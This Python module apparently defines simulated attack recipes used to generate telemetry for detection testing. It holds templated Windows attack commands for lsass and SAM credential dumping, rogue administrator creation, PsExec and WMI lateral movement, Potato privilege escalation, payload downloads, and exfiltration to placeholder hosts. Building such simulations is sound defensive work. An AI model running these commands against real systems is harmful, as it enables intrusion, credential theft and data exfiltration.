"""Attacks by hand: looking around, new users, stolen secrets, other hosts, higher rights, what is there already."""

from longtail.fleet.attack import Attack

ENGINE = ("mssql", "sqlagent")
POTATO = r"""
nothing
or
cmd: whoami /priv

cmd: {drop}\JuicyPotato.exe -l {port} -p C:\Windows\System32\cmd.exe -a "/c net user {newuser} {password} /add" -t *
  !system cmd.exe | C:\Windows\System32\cmd.exe /c net user {newuser} {password} /add
    !system net.exe | net  user {newuser} {password} /add
or
cmd: {drop}\PrintSpoofer64.exe -i -c "cmd /c {drop}\{tool}.exe"
  !system cmd.exe | cmd /c {drop}\{tool}.exe
    !system {drop}\{tool}.exe
or
cmd: {drop}\{rnd}.exe -cmd "powershell -nop -w hidden -e {longblob}"
  !system powershell.exe | powershell -nop -w hidden -e {longblob}
or
cmd: {drop}\GodPotato-NET4.exe -cmd "cmd /c whoami"
  !system cmd.exe | cmd /c whoami

nothing
or
cmd: {drop}\{tool}.exe
"""

RECIPES = (
    Attack("recon-only", ENGINE, ("T1033", "T1087", "T1016", "T1082", "T1057", "T1482"),
           "only questions to the system: hard to tell from an administrator's look around", r"""
xp: whoami
or
xp: whoami /all
or
xp: whoami /priv

xp: net user
or
xp: net user /domain

xp: ipconfig /all
or
nothing
or
xp: arp -a

xp: systeminfo
or
xp: wmic computersystem get domain,username

xp: tasklist /svc
or
nothing
or
xp: wmic process get caption,executablepath,commandline

xp: nltest /domain_trusts
or
xp: net group "domain admins" /domain
or
xp: nltest /dclist:{domain}
or
xp: dsquery * -filter "(objectCategory=computer)" -limit 0

nothing
or
xp: net localgroup administrators
or
xp: quser
or
xp: cmdkey /list
or
xp: dir /s /b C:\*pass*.txt

nothing
or
xp: netstat -ano
or
xp: reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"
""", (8, 400), shuffled=True),
    Attack("new-administrator", ENGINE, ("T1136.001", "T1098", "T1021.001", "T1112"),
           "a new local administrator and remote desktop", r"""
nothing
or
xp: whoami

xp: net user {newuser} {password} /add
or
xp: net user {newuser} {password} /add /expires:never /passwordchg:no
or
xp: powershell New-LocalUser -Name {newuser} -NoPassword

xp: net localgroup administrators {newuser} /add
or
xp: net localgroup "Remote Desktop Users" {newuser} /add & net localgroup administrators {newuser} /add

xp: reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
or
xp: wmic rdtoggle where ServerName='%COMPUTERNAME%' call SetAllowTSConnections 1
or
nothing

xp: netsh advfirewall firewall set rule group="remote desktop" new enable=Yes
or
xp: netsh firewall set service type=remotedesktop mode=enable
or
nothing
"""),
    Attack("credential-theft", ENGINE, ("T1003.001", "T1003.002", "T1560.001"),
           "memory of lsass, or the hives, copied and packed", r"""
xp: reg save HKLM\SAM {drop}\{rnd}.sav & reg save HKLM\SYSTEM {drop}\{rnd2}.sav
or
xp: {drop}\procdump64.exe -accepteula -ma lsass.exe {drop}\{rnd}.dmp
or
xp: powershell -c "rundll32 C:\Windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id {drop}\{rnd}.bin full"
  rundll32.exe | "C:\Windows\system32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump {nnn}
  .. {drop}\{rnd}.bin full
or
xp: rundll32 C:\Windows\System32\comsvcs.dll,#24 {nnn} {drop}\{rnd}.log full
or
xp: vssadmin create shadow /for=C: & copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{n}\Windows\NTDS\ntds.dit
.. {drop}\{rnd}.dit

xp: {drop}\7z.exe a -p{rnd} {drop}\{rnd2}.7z {drop}\{rnd}.*
or
xp: makecab {drop}\{rnd}.dmp {drop}\{rnd}.cab
or
nothing

nothing
or
xp: copy {drop}\{rnd}.7z \\{wan}\{letter}
or
xp: del {drop}\{rnd}.*
"""),
    Attack("lateral-movement", ENGINE, ("T1021.002", "T1047", "T1570"), "from one host to another of the tenant", r"""
xp: net view \\{victim}
or
xp: ping -n 1 {victim}

xp: net use \\{victim}\c$ {password} /user:{domain}\{person}
or
xp: net use \\{victim}\admin$

xp: copy {drop}\{tool}.exe \\{victim}\c$\Windows\Temp\{tool}.exe
or
nothing

xp: wmic /node:{victim} process call create "cmd.exe /c C:\Windows\Temp\{tool}.exe"
or
xp: {drop}\PsExec.exe \\{victim} -accepteula -s -d cmd.exe /c C:\Windows\Temp\{tool}.exe
or
xp: sc \\{victim} create {rnd} binPath= "C:\Windows\Temp\{tool}.exe" & sc \\{victim} start {rnd}
or
xp: schtasks /create /s {victim} /tn {rnd} /tr C:\Windows\Temp\{tool}.exe /sc once /st 00:00 & schtasks /run /s
.. {victim} /tn {rnd}
""", elsewhere=r"""
wmi> cmd.exe | cmd.exe /c C:\Windows\Temp\{tool}.exe
  conhost.exe | {conhost}
  C:\Windows\Temp\{tool}.exe

wmi> cmd.exe | cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__{id} 2>&1
  conhost.exe | {conhost}
  whoami.exe | whoami
"""),
    Attack("living-off-the-account", ENGINE, ("T1059.003", "T1005", "T1048"),
           "only programs the account runs anyway, told other things: the hardest for a model of images", r"""
xp: sqlcmd -S {server} -U sa -P {password} -Q "select name,password_hash from sys.sql_logins"
or
xp: sqlcmd -S {wan},{port} -U {letter} -P {rnd} -Q "exec {rnd}..x '%COMPUTERNAME%'"
or
xp: sqlcmd -S . -E -Q "ALTER SERVER ROLE sysadmin ADD MEMBER [{newuser}]"

xp: bcp "select * from {db}.dbo.customers" queryout {drop}\{rnd}.dat -c -T
or
xp: bcp "select name,password_hash from master.sys.sql_logins" queryout {drop}\{rnd}.txt -c -T

xp: powershell -ExecutionPolicy Bypass -File {drop}\{tool}.ps1
or
xp: powershell -File \\{wan}\{letter}\{tool}.ps1
or
xp: robocopy {drop} \\{wan}\{letter} {rnd}.dat
or
xp: curl -T {drop}\{rnd}.dat http://{beacon}/
"""),
    Attack("potato", ENGINE, ("T1134.001", "T1068"), "SeImpersonate turned into SYSTEM",
           POTATO.replace("cmd: ", "xp: ")),
    Attack("web-potato", ("iis",), ("T1505.003", "T1134.001"), "the same from an application pool", POTATO),
    Attack("slow", ENGINE, ("T1059.003", "T1029"), "one command a day for a week", r"""
xp: whoami

xp: net group "domain computers" /domain
or
xp: dir \\{server}\c$\Users

xp: certutil -urlcache -split -f {url}.png {drop}\{tool}.exe
or
xp: curl -s -o {drop}\{tool}.exe {url}
or
xp: powershell -c "iwr {url} -o {drop}\{tool}.exe"

xp: {drop}\{tool}.exe --check

xp: reg save HKLM\SECURITY {drop}\{rnd}.log
or
xp: {drop}\{tool}.exe -d {id}

xp: schtasks /create /tn {taskname} /tr {drop}\{tool}.exe /sc daily /ru SYSTEM
or
xp: {drop}\{tool}.exe -x {rnd}

xp: del {drop}\{rnd}.log
or
xp: {drop}\{tool}.exe -u {beacon}
""", (60_000, 100_000)),
)  # fmt: skip
